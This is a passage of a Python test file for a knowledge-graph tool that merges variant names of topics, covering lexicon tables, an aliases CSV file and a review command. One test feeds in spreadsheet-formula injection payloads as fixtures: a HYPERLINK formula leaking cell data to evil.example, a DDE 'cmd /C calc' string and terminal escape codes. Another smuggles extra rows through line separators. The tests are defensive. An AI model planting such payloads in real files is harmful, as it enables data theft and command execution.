    # attack's false joins: those verbs' rows were dropped)
    ("Departing Employees", "Employee Departures", False),
    ("Departing Employees", "Employee Department", False),
    ("Governing Boards", "Board Governance", False),
    ("Acquiring Banks", "Bank Acquisitions", False),
    ("Shrinking Retail", "Retail Shrinkage", False),
    ("Providing Loans", "Loan Provisions", False),
    ("Consuming Public", "Public Consumption", False),
    ("Withdrawing Opioids", "Opioid Withdrawal", False),
]


def test_noun_lemmas_table_holds_only_words_the_plural_rule_misreads():
    from kg.resolve.keys import _lemmas, _lexicon_rows, plural_rule

    rows = [noun for noun, in _lexicon_rows("noun-lemmas.csv")]
    assert len(rows) == 1854 and rows == sorted(set(rows))
    for noun in rows:
        assert noun.isalpha() and noun.islower()
        assert not any(_lemmas(noun, pos) for pos in ("NOUN", "VERB", "ADJ", "ADV"))
        plural = noun if noun.endswith("s") else noun + ("es" if noun.endswith("o") else "s")
        assert plural_rule(plural) != noun


def test_fixed_names_table_is_keys_of_names_a_peoples_adjective_begins():
    from kg.resolve.keys import _lexicon_rows, name_key
    from kg.resolve.wordings.adjectives import _of_a_place

    rows = [name for name, in _lexicon_rows("fixed-names.csv")]
    assert len(rows) == 1186 and rows == sorted(set(rows))
    assert "american football" in rows and "siamese twin" in rows  # (keys: singular)
    assert "swiss cheese" in rows and "french fry" in rows  # (place-adjectives.csv)
    assert "korean peninsula" not in rows and "indian ocean" not in rows  # (places)
    for name in rows:
        assert name_key(name) == name and len(name.split()) >= 2
        assert _of_a_place(name.split()[0])


def test_place_adjectives_table_keeps_the_rules_it_was_made_by():
    from bench.make_place_adjectives import _ALSO, _OTHER_SENSES, _TODAY
    from kg.resolve.keys import _lexicon_rows, name_key
    from kg.resolve.lexicon import lexicon

    rows = [tuple(row) for row in _lexicon_rows("place-adjectives.csv")]
    assert len(rows) == 228 and rows == sorted(set(rows))
    places = lexicon().place_adjectives
    assert places["thai"] == ("thailand",) and places["norwegian"] == ("norway",)
    assert places["czech"] == _TODAY["czech"] and places["thai"] == _ALSO["thai"]
    assert places["emirati"] == ("uae", "united arab emirate")  # (as keys write them)
    for adjective, place in rows:
        assert name_key(adjective) == adjective and " " not in adjective
        assert name_key(place) == place and adjective not in _OTHER_SENSES


def test_adjective_nouns_table_keeps_the_rules_it_was_made_by():
    from bench.make_adjective_nouns import (_NOT_RELATIONAL, _RELATIONAL_ENDINGS, _review_rows,
                                            _shared_start)
    from kg.resolve.keys import _lemmas, _lexicon_rows

    rows = list(_lexicon_rows("adjective-nouns.csv"))
    assert len(rows) == 155 == len({adjective for adjective, _ in rows})
    review = _review_rows(Path(__file__).parent.parent / "bench/data/adjective-review.csv")
    assert len(review) == 579 and {(r["adjective"], r["noun"]) for r in review
                                   if r["keep"] == "1"} == {tuple(row) for row in rows}
    assert ["electoral", "election"] in rows and ["managerial", "management"] in rows
    for adjective, noun in rows:
        assert adjective.isalpha() and noun.isalpha() and noun.islower()
        assert adjective.endswith(_RELATIONAL_ENDINGS) and adjective not in _NOT_RELATIONAL
        assert _shared_start(adjective, noun) >= max(4, len(adjective) - 5)
        assert not _lemmas(adjective, "VERB")


def test_acronyms_of_two_meanings_in_the_archive_are_left_for_review():
    labels = [("Keyword", "IP"), ("Keyword", "intellectual property"),
              ("Technology", "internet protocol"), ("Keyword", "EVs"),
              ("Technology", "electric vehicles")]
    found = [(c.first, c.second, c.reason, c.score) for c in candidates(labels)
             if c.reason == "abbreviation"]
    assert found == [("intellectual property", "IP", "abbreviation", 85.0),
                     ("internet protocol", "IP", "abbreviation", 85.0)]  # (EVs: joined)
    assert not accepted_candidates(labels)


@pytest.mark.parametrize("names, joined", [
    # (a recall gap: AI of two meanings in kg's table kept "AI ethics" apart)
    ([("Concern", "AI ethics"), ("Concern", "artificial intelligence ethics")], True),
    ([("Technology", "CV pipelines"), ("Technology", "computer vision pipelines")], True),
    # traps: the archive spells it out otherwise (review's); the rest of the name says
    # nothing of the meaning; the archive names two
    ([("Technology", "EV Battery Recycling"), ("Technology", "Electric Vehicle Battery Recycling"),
      ("Keyword", "Enterprise Value (EV)")], False),
    ([("Technology", "CV pipelines"), ("Technology", "computer vision pipelines"),
      ("Keyword", "curriculum vitae")], False),
    ([("Keyword", "HR data"), ("Keyword", "heart rate data"), ("Theme", "human resources")],
     False),
    ([("Theme", "AV industry"), ("Theme", "autonomous vehicle industry")], False),
    ([("Concern", "IP theft"), ("Concern", "intellectual property theft"),
      ("Concern", "internet protocol theft")], False),
    ([("Keyword", "hr analytics"), ("Keyword", "human resources analytics")], False),  # (no
    # acronym written in capitals)
])
def test_an_acronym_of_several_meanings_inside_a_name_joins_the_one_the_archive_names(
        names, joined):
    keys = join_keys([(kind.lower(), name) for kind, name in names])
    first, second = (keys.get(name_key(n), name_key(n)) for _, n in names[:2])
    assert (first == second) is joined


DOC = """# __{title}__, (from page [20240101](https://k.org/p/1).)

## Technologies

| name | description | relevancy |
|--|--|--|
| {tech} | d | 3 |
"""


def test_every_name_of_a_node_finds_it_when_the_corpus_renamed_its_key(tmp_path):
    """A node of one name whose key the archive's joins renamed ("EVs" to the table's
    long form, "machine learning models" with "ML models") kept only the new key as its
    search key: `articles-mentioning -p label=EVs` found nothing (a review's finding)."""
    src = tmp_path / "src"
    src.mkdir()
    for n, tech in enumerate(("EVs", "electric vehicles", "Artificial Intelligence (AI)"), 1):
        (src / f"a{n}.md").write_text(DOC.format(title=f"A{n}", tech=tech), encoding="utf-8")
    (src / "a4.md").write_text(DOC.format(title="A4", tech="Soil Carbon") +
                               "\n## Keywords\n\n* AI\n", encoding="utf-8")
    graph = build([src], tmp_path / "out", base=BASE, today=TODAY, html=False)
    for name, articles in (("EVs", ["a1", "a2"]), ("electric vehicles", ["a1", "a2"]),
                           ("AI", ["a3", "a4"]), ("artificial intelligence", ["a3", "a4"]),
                           ("Soil Carbon", ["a4"])):
        rows = graph.saved_query("articles-mentioning", label=name).values()
        assert sorted(row["article"].removeprefix(BASE + "article/") for row in rows) == \
            articles, name
    hidden = {(row["e"].removeprefix(BASE), row["key"]) for row in graph.query(
        "SELECT ?e ?key WHERE { ?e skos:hiddenLabel ?key }").values()}
    assert hidden == {("technology/electric_vehicle", "ev"),
                      ("technology/electric_vehicle", "electric vehicle"),
                      ("technology/artificial_intelligence", "artificial intelligence"),
                      ("technology/artificial_intelligence", "ai"),
                      ("technology/soil_carbon", "soil carbon"),
                      ("keyword/artificial_intelligence", "ai"),
                      ("keyword/artificial_intelligence", "artificial intelligence")}


def test_aliases_file_is_honoured_by_the_build(tmp_path):
    src = tmp_path / "src"
    src.mkdir()
    for n, tech in enumerate(("Voice Cloning", "Voice Mimicry", "Digital Twins", "digital twin"), 1):
        (src / f"a{n}.md").write_text(DOC.format(title=f"A{n}", tech=tech), encoding="utf-8")
    plain = build([src], tmp_path / "plain", base=BASE, today=TODAY, html=False)
    assert plain.report.counts["Technology"] == 3  # voice cloning | voice mimicry | digital twin
    aliases = tmp_path / "aliases.csv"
    aliases.write_text("# reviewed 2026-11-24\nsame,Voice Cloning,voice mimicry\n"
                       "never,Digital Twins,digital twin\n", encoding="utf-8")
    result = build([src], tmp_path / "out", base=BASE, today=TODAY, html=False, aliases=aliases)
    assert result.report.counts["Technology"] == 3  # one voice node | Digital Twins | digital twin
    rows = result.query("SELECT ?e ?name WHERE { ?e a kg:Technology ; "
                        "rdfs:label|skos:altLabel ?name }").values()
    node_of = {row["name"]: row["e"].removeprefix(BASE) for row in rows}
    assert node_of["Voice Cloning"] == node_of["Voice Mimicry"] == "technology/voice_cloning"
    assert node_of["Digital Twins"] != node_of["digital twin"]
    # The aliases file is part of the cache key: editing it rebuilds with the new decisions.
    aliases.write_text("same,Voice Cloning,voice mimicry\n", encoding="utf-8")
    again = build([src], tmp_path / "out", base=BASE, today=TODAY, html=False, aliases=aliases)
    assert again.report.counts["Technology"] == 2 and again.report.reused == 0


def test_an_aliases_row_naming_nothing_of_the_archive_is_a_warning(tmp_path):
    """A row whose name the archive never uses (a typo, a name from another archive)
    changed nothing, silently (a review's finding): now a warning names its line."""
    src = tmp_path / "src"
    src.mkdir()
    for n, tech in enumerate(("Voice Cloning", "Voice Mimicry", "Digital Twins"), 1):
        (src / f"a{n}.md").write_text(DOC.format(title=f"A{n}", tech=tech), encoding="utf-8")
    aliases = tmp_path / "aliases.csv"
    aliases.write_text("# reviewed\nsame,voice clonings,Voice Mimicry\nsame,Voice Cloning,Voise Mimicry\n"
                       "never,Digital Twins,digital twin tech\n", encoding="utf-8")
    graph = build([src], tmp_path / "out", base=BASE, today=TODAY, html=False, aliases=aliases)
    assert [str(d) for d in graph.report.diagnostics if d.path == str(aliases)] == [
        f"{aliases}:3: warning: no name of the archive is 'Voise Mimicry'; the row changes "
        "nothing for it",
        f"{aliases}:4: warning: no name of the archive is 'digital twin tech'; the row changes "
        "nothing for it"]
    assert graph.report.counts["Technology"] == 2  # (the rows that name both still work)


def test_a_never_row_undoes_a_join_of_the_abbreviations_table(tmp_path):
    src = tmp_path / "src"
    src.mkdir()
    for n, tech in enumerate(("EVs", "electric vehicles")):
        (src / f"a{n}.md").write_text(DOC.format(title=f"A{n}", tech=tech), encoding="utf-8")
    assert build([src], tmp_path / "a", html=False).report.counts["Technology"] == 1
    aliases = tmp_path / "aliases.csv"
    aliases.write_text("never,EVs,electric vehicles\n", encoding="utf-8")
    kept = build([src], tmp_path / "b", html=False, aliases=aliases)
    assert kept.report.counts["Technology"] == 2


def test_a_bad_aliases_row_is_named_by_file_and_line_and_the_rest_builds(tmp_path):
    """(it stopped the build, nothing written: an attack's note)"""
    bad = tmp_path / "aliases.csv"
    bad.write_text("same,T,Tee\nmaybe,c,d\nsame,only one\n", encoding="utf-8")
    table = AliasTable.read(bad)
    assert table.joined == {"tee": "t"}
    assert [line for line, _ in table.problems] == [2, 3]
    src = tmp_path / "src"
    src.mkdir()
    (src / "a.md").write_text(DOC.format(title="A", tech="T"), encoding="utf-8")
    (src / "b.md").write_text(DOC.format(title="B", tech="Tee"), encoding="utf-8")
    result = CliRunner().invoke(main, ["build", str(src), "-o", str(tmp_path / "o"),
                                       "--aliases", str(bad)])
    assert result.exit_code == 0, result.output
    assert "aliases.csv:2: warning: expected `same,NAME,NAME` or `never,NAME,NAME`, got " \
        "'maybe,c,d'; the row is left out" in result.output
    assert "aliases.csv:3: warning: expected" in result.output
    graph = (tmp_path / "o" / "graph.ttl").read_text(encoding="utf-8")
    assert graph.count("a kg:Technology") == 1  # the good row still joins
    # an unclosed quote spoils its own line only (the csv reader took every line after it
    # into one cell, the rows after it lost: a review)
    bad.write_text('same,T,Tee\nsame,"Coca-Cola,Coke\nnever,T,Tee\n', encoding="utf-8")
    table = AliasTable.read(bad)
    assert [line for line, _ in table.problems] == [2] and table.never == {"t", "tee"}
    bad.write_bytes(b"same,a,b\n\xff\n")  # (a file that is no text at all: an error)
    with pytest.raises(InputError, match="not UTF-8"):
        AliasTable.read(bad)


def test_candidates_are_indexed_not_quadratic():
    # 3,000 distinct names sharing no word and no beginning: no pair is ever compared.
    import itertools

    letters = "bcdfghjklmnpqrstvwxz"
    names = [("Keyword", "".join(p) + "qqq") for p in itertools.islice(
        itertools.product(letters, repeat=4), 3000)]
    assert candidates(names) == []


def test_near_spellings_of_another_first_letter_are_candidates_for_review():
    """The README's example of a spelling left to a person, "misinformation" /
    "disinformation", was never proposed: no shared word or beginning (a review)."""
    found = [(c.first, c.second, c.reason) for c in candidates(
        [("Keyword", "misinformation"), ("Theme", "disinformation"), ("Keyword", "dish")],
        joined={})]
    assert found == [("disinformation", "misinformation", "spelling")]
    assert not accepted_candidates([("Keyword", "misinformation"), ("Theme", "disinformation")])


def test_resolve_command_reports_and_accepts_each_strong_pair_once(tmp_path):
    src = tmp_path / "src"
    src.mkdir()
    for n, tech in enumerate(("Large Language Models (LLMs)", "LLMs", "OpenAI", "Open AI",
                              "Decarbonisation", "decarbonization plans"), 1):
        (src / f"a{n}.md").write_text(DOC.format(title=f"A{n}", tech=tech), encoding="utf-8")
    build([src], tmp_path / "plain", base=BASE, today=TODAY, html=False)
    command = ["resolve", str(tmp_path / "plain" / "graph.ttl"), "--accept",
               str(tmp_path / "none.csv")]
    result = CliRunner().invoke(main, command)
    assert result.exit_code == 0, result.output
    assert result.output.splitlines() == [  # the build joins spacing variants itself
        f"merged  {BASE}technology/large_language_model: LLMs | Large Language Models (LLMs)",
        f"merged  {BASE}technology/open_ai: Open AI | OpenAI",
        f"appended 0 pairs to {tmp_path / 'none.csv'}; build with --aliases "
        f"{tmp_path / 'none.csv'}"]
    # the file the message names is there for the build it advises (a review's finding)
    assert (tmp_path / "none.csv").read_text().startswith("# kg aliases: rows of same or never")
    assert build([src], tmp_path / "none", base=BASE, today=TODAY, html=False,
                 aliases=tmp_path / "none.csv").report.counts["Technology"] == 4
    # A graph where they are two nodes (made by an older kg, or here kept apart by an
    # aliases file): the review proposes them, --accept appends them once.
    apart = tmp_path / "apart.csv"
    apart.write_text("never,Open AI,OpenAI\n", encoding="utf-8")
    build([src], tmp_path / "out", base=BASE, today=TODAY, html=False, aliases=apart)
    accepted = tmp_path / "aliases.csv"
    command = ["resolve", str(tmp_path / "out" / "graph.ttl"), "--accept", str(accepted)]
    result = CliRunner().invoke(main, command)
    assert result.exit_code == 0, result.output
    assert result.output.splitlines()[:4] == [
        f"merged  {BASE}technology/large_language_model: LLMs | Large Language Models (LLMs)",
        "candidate  98.0 spacing  Technology: 'Open AI'  ~  Technology: 'OpenAI'",
        "appended  same,Open AI,OpenAI",
        f"appended 1 pair to {accepted}; build with --aliases {accepted}"]
    again = CliRunner().invoke(main, command)  # nothing new: nothing written twice
    assert f"appended 0 pairs to {accepted}" in again.output
    assert list(csv.reader(accepted.open()))[1:] == [["same", "Open AI", "OpenAI"]]
    rebuilt = build([src], tmp_path / "out2", base=BASE, today=TODAY, html=False,
                    aliases=accepted)
    assert rebuilt.report.counts["Technology"] == 4  # llm | openai | two decarbonisations
    after = CliRunner().invoke(main, ["resolve", str(tmp_path / "out2" / "graph.ttl")])
    assert "candidate" not in after.output  # what is one node is no longer proposed


def test_resolve_command_proposes_nothing_the_build_linked_across_types(tmp_path):
    # The keyword VSM joins the technology's long form, which a theme also names: three
    # nodes of one key, linked by skos:exactMatch; no candidate should propose them.
    src = tmp_path / "src"
    src.mkdir()
    (src / "a1.md").write_text(DOC.format(title="A1", tech="Viable System Model (VSM)"),
                               encoding="utf-8")
    (src / "a2.md").write_text(DOC.format(title="A2", tech="Robots") +
                               "\n## Keywords\n\n* VSM\n\n## Themes\n\n* viable system model\n",
                               encoding="utf-8")
    graph = build([src], tmp_path / "out", base=BASE, today=TODAY, html=False)
    assert graph.query("SELECT (COUNT(*) AS ?n) WHERE { ?a skos:exactMatch ?b }"
                       ).values() == [{"n": "6"}]  # each way between the three nodes
    result = CliRunner().invoke(main, ["resolve", str(tmp_path / "out" / "graph.ttl")])
    assert result.exit_code == 0, result.output
    assert "candidate" not in result.output, result.output


def test_accepted_names_are_never_formulas_and_read_back_as_written(tmp_path):
    """An attack: names starting with = + - @ went raw into aliases.csv (a spreadsheet
    runs them), a file without a last line end had the first new row glued to its last
    row, and names reached the terminal with their escape sequences."""
    src = tmp_path / "src"
    src.mkdir()
    pairs = [('=HYPERLINK("http://evil.example/?"&A1,"x")',
              '=HYPER LINK("http://evil.example/?"&A1,"x")'),
             ("+cmd|' /C calc'!A0", "+cmd|' /C calc'!A 0"), ("@SUM(1+1)", "@S UM(1+1)"),
             ("Open\x1b[2JAI", "Op en\x1b[2JAI")]
    names = [name for name, _ in pairs]
    apart = tmp_path / "apart.csv"  # two nodes each, so the review proposes them
    with apart.open("w", encoding="utf-8", newline="") as handle:
        for n, (name, spaced) in enumerate(pairs):
            (src / f"a{n}.md").write_text(
                f"# __A{n}__, (from page [20250101](https://x.org/p/20250101).)\n\n"
                f"## Keywords\n\n* {name}\n\n## Themes\n\n* {spaced}\n", encoding="utf-8")
            csv.writer(handle).writerow(["never", name, spaced])
    graph = tmp_path / "out" / "graph.ttl"
    build([src], graph.parent, base=BASE, today=TODAY, html=False, aliases=apart)
    shared = tmp_path / "team" / "aliases.csv"  # a link to a team's file, CRLF, mode 600
    shared.parent.mkdir()
    shared.write_bytes(b"same,Digital Twins,digital twin technology")
    shared.chmod(0o600)
    accepted = tmp_path / "aliases.csv"
    accepted.symlink_to(shared)
    result = CliRunner().invoke(main, ["resolve", str(graph), "--accept", str(accepted)])
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\\x1b[2J" in result.output
    rows = list(csv.reader(accepted.open(encoding="utf-8")))
    assert rows[0] == ["same", "Digital Twins", "digital twin technology"]
    assert len(rows) == 1 + len(names)
    assert not [cell for row in rows for cell in row if cell[:1] in "=+-@"]
    table = AliasTable.read(accepted)
    assert {table.canonical(resolution_key(name)) for name in names} == \
        {table.canonical(resolution_key(row[1])) for row in rows[1:]}
    assert len(table.joined) == 1 + len(names)  # each pair joined, as written
    assert accepted.is_symlink() and shared.stat().st_mode & 0o777 == 0o600
    before = shared.read_bytes()
    again = CliRunner().invoke(main, ["resolve", str(graph), "--accept", str(accepted)])
    assert "appended 0 pairs" in again.output and shared.read_bytes() == before


def test_a_line_separator_in_an_accepted_name_plants_no_row(tmp_path):
    """An attack: names of a graph from elsewhere holding U+2028 (or U+0085, \\v, \\f)
    were written inside a quoted cell, but the aliases file was split at them: the
    cell's tail, `same,misinformation,disinformation`, became a row of its own. A name
    with a line end is no row of the file at all: not appended."""
    graph = tmp_path / "graph.ttl"
    names = {"open_ai": "Open AI{}same,misinformation,disinformation",
             "openai": "OpenAI{}same,misinformation,disinformation",
             "deep_fake": "Deep Fake\nsame,truth,lies", "deepfake": "DeepFake\nsame,truth,lies"}
    with graph.open("w", encoding="utf-8") as handle:
        handle.write("@prefix kg: <https://w3id.org/hskg/ontology#> .\n"
                     "@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .\n")
        for separator in ("\u2028", "\u0085", "\v", "\f"):
            for key, name in names.items():
                label = name.format(separator).replace("\n", "\\n")
                handle.write(f"<https://w3id.org/hskg/id/keyword/{key}{ord(separator)}> "
                             f'a kg:Keyword ; rdfs:label "{label}" .\n')
    accepted = tmp_path / "aliases.csv"
    result = CliRunner().invoke(main, ["resolve", str(graph), "--accept", str(accepted)])
    assert result.exit_code == 0, result.output
    table = AliasTable.read(accepted)
    assert table.problems == []
    assert table.joined == {"openai same misinformation disinformation":
                            "open ai same misinformation disinformation"}  # (one key each)
    assert "\n" not in "".join(cell for row in csv.reader(accepted.open(newline=""))
                                for cell in row)


def test_shared_nodes_index_joined_keys_and_gather_names_before_facts():
    """Each node once, in the order of its first key; a node's keys (its own when it is
    one); names then facts gather what `add` does (a full build adds facts after the
    related stage)."""
    from kg.corpus import Canonical
    from kg.parts import ArticlePart, SharedNodes

    tech = BASE + "technology/"
    part = ArticlePart("a1", [], forms=[(tech + "llm", "LLMs"), (tech + "solar_roof", "solar roof"),
                                        (tech + "large_language_model", "Large Language Models"),
                                        (tech + "gen_ai", "Gen AI")],
                       entity_links=[(tech + "llm", BASE + "drivenBy", tech + "solar_roof")],
                       pages=[("c/a1.md", "2024-01-05", "https://example.org/a")])
    # "gen ai" joins a key no name has: its node is not one of the keys
    canonical = Canonical(BASE, {"llm": "large language model", "gen ai": "generative ai"})
    whole, split = SharedNodes(BASE, TODAY), SharedNodes(BASE, TODAY)
    whole.add(part)
    split.add_names(part)
    assert split.entity_links == {} and split.pages == {}
    split.add_facts(part)
    for shared in (whole, split):
        shared.set_canonical(canonical)
        assert list(shared.nodes()) == [tech + "large_language_model", tech + "solar_roof",
                                        tech + "generative_ai"]
        assert shared.keys_of(tech + "large_language_model") == [tech + "large_language_model",
                                                                 tech + "llm"]
        assert shared.keys_of(tech + "generative_ai") == [tech + "gen_ai"]
        assert shared.keys_of(tech + "solar_roof") == [tech + "solar_roof"]
        assert shared.label(tech + "generative_ai") == "Gen AI"
    assert whole.triples() == split.triples()


# One name per wording rule, and a form only that rule gives it.
RULE_EXAMPLES = {
    "reordered_around_preposition": ("Impact of AI on Jobs", "ai impact on job"),
    "between": ("Trade between US and China", "us china trade"),
    "driven_by": ("Design Driven by AI", "ai driven design"),
    "and_either_way": ("Energy and Climate Policy", "climate and energy policy"),
    "in_dropped": ("AI in Education", "=ai education"),
    "cross_as_across": ("Cross-Sector Cooperation", "cooperation across sector"),
    "against_from_with": ("Emissions from Shipping", "=shipping emission"),
    "toward_as_to": ("Shift toward Renewables", "=shift to renewable"),
    "on_the_rise": ("Synthetic Research on the Rise", "rise of synthetic research"),
    "doer_doing": ("AI Replacing Junior Roles", "replacement of junior role by ai"),
    "where_first": ("In-Space Manufacturing", "manufacturing in space"),
    "of_what_by_whom": ("Sharing of Data by Apps", "data sharing by app"),
    "one_preposition_for_another": ("Funding for Research", "funding * research"),
    "aspect_of_the": ("A Tool for the Ethics of AI", "tool for ai ethics"),
    "in_context": ("Cryptography in Historical Context", "historical context of cryptography"),
    "generic_last_word": ("Thermal Energy Storage System", "thermal energy storage"),
    "tie_either_way": ("US-China Relations", "china us relation"),
    "town_of": ("Town of Viganella", "viganella"),
    "ai_generated_media": ("AI-Generated Art", "ai art"),
    "link_word_dropped": ("AI-Powered Hacking", "=ai hacking"),
    "growth_as_rise": ("Brand Publishing Growth", "brand publishing rise"),
    "shift_as_change": ("Regional Demographic Shifts", "regional demographic change"),
    "ordinal_numbers": ("Fourth Industrial Revolution", "4th industrial revolution"),
    "cardinal_numbers": ("World War II", "world war 2"),
    "concern_word": ("Data Privacy Risks", "data privacy (concern)"),
    "gerund_as_noun": ("Declining Birth Rates", "birth rate decline"),
    "adjective_as_noun": ("Political Polarisation", "<polity polarization"),
    "adjective_of_an_impact": ("Economic Impact of AI", "<ai impact on economy"),
    "modifier_as_noun": ("Tourist Taxes", "=tourism tax"),
    "place_possessive": ("Chinese Economy", "=china economy"),
    "quality_last": ("Resilient Supply Chains", "supply chain resilience"),
    "e_prefix": ("E-Bikes", "electric bike"),
    "trend_of_a_phrase": ("Decline in Trust in Science", "trust in science decline"),
    "medium_either_place": ("Child Online Safety", "online child safety"),
    "gerund_after_a_preposition": ("Cost of Installing Heat Pumps",
                                   "cost of heat pump installation"),
}


def test_each_wording_rule_is_registered_by_name_and_gives_its_forms(monkeypatch):
    from kg.resolve.wordings import RULES, signatures

    assert set(RULES) == set(RULE_EXAMPLES)
    for rule, (name, form) in RULE_EXAMPLES.items():
        key = resolution_key(name)
        assert form in signatures(key), rule
        with monkeypatch.context() as patch:
            patch.delitem(RULES, rule)
            assert form not in signatures(key), rule


# A trap hunt (a helper session wrote 300 traps blind, rows "[traps, helper 85]" of
# tests/data/resolution-pairs.csv): false joins it found, each pair alone, and what a
# review of the rules taken from them found they then kept apart wrongly.
# (first, second, one node?)
TRAP_HUNT = [
    ("Oversight of Banks", "Bank Oversight", True),
    ("Environmental Monitoring", "Monitoring of the Environment", True),
    ("AI-Powered Healthcare", "AI Healthcare", True),
    ("AI-Driven Policing", "AI Policing", True),
    ("Nuclear Arms Control", "Nuclear Weapons Control", True),
    ("Robotic Arms Market", "Robotic Arm Market", True),
    ("NLP Technology", "Natural Language Processing Technology", True),
    ("IRA Funding", "Inflation Reduction Act Funding", True),
    ("Heat Island Effect", "Heat Islands", True),
    ("Police Surveillance", "Surveillance of Police", False),
    # (the fourteenth batch's tune half)
    ("Parental Supervision", "Supervision of Parents", False),
    ("Bank Supervision", "Supervision of Banks", True),
    ("Side Effects on Children", "Side Impact on Children", False),
    ("Impact on Children", "Effect on Children", True),
    ("Export-Driven Growth", "Export Growth", False),
    ("Evidence-Based Policy", "Evidence Policy", False),
    ("Consumer-Driven Healthcare", "Consumer Healthcare", False),
    ("Data-driven Storytelling", "data storytelling", True),
    ("Heat-Related Deaths", "heat deaths", True),
    ("National Health Service", "National Health", False),
    ("Public Broadcasting Service", "Public Broadcasting", False),
    ("Sleep Concierge service", "Sleep Concierge", True),
    ("Urban Heat Island Effect", "Urban Heat Islands", True),
    ("Museum of Modern Art", "Modern Art Museums", False),
    ("University of California", "Californian Universities", False),
    ("Bank of America", "American Banks", False),
    ("Bill of Rights", "Rights Bill", False),
    ("Department of Justice", "Justice Department", True),
    ("Employer Monitoring", "Monitoring of Employers", False),
    ("Parental Monitoring", "Monitoring of Parents", False),
    ("Employee Monitoring", "Monitoring of Employees", True),
    ("Arms Control", "Arm Control", False),
    ("Customs Data", "Custom Data", False),
    ("Robotic Arms", "Robotic Arm", True),
    ("Logistic Regression", "Logistics Regression", False),
    ("Electronics Warfare", "Electronic Warfare", True),
]
